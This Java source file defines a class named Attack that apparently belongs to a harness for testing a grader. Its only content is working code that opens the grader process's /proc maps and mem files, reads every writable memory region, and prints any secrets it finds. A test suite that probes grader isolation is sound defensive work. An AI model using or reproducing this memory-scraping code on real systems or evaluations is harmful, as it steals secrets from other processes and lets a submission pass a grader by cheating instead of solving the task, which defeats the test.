package mlp;

import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

/** Reads the grader's memory through /proc/PID/maps and mem. */
final class Attack extends Hook {
  @Override
  void run() throws Throwable {
    Path grader = Path.of("/proc/" + GraderProcess.pid());
    byte[] chunk = new byte[1 << 20];
    try (RandomAccessFile memory = new RandomAccessFile(grader.resolve("mem").toFile(), "r")) {
      for (String region : Files.readAllLines(grader.resolve("maps"))) {
        if (!region.contains(" rw-p ")) {
          continue;
        }
        String[] bounds = region.substring(0, region.indexOf(' ')).split("-");
        long end = Long.parseUnsignedLong(bounds[1], 16);
        for (long at = Long.parseUnsignedLong(bounds[0], 16); at < end; at += chunk.length) {
          memory.seek(at);
          printSecrets(chunk, memory.read(chunk, 0, (int) Math.min(chunk.length, end - at)));
        }
      }
    }
  }
}
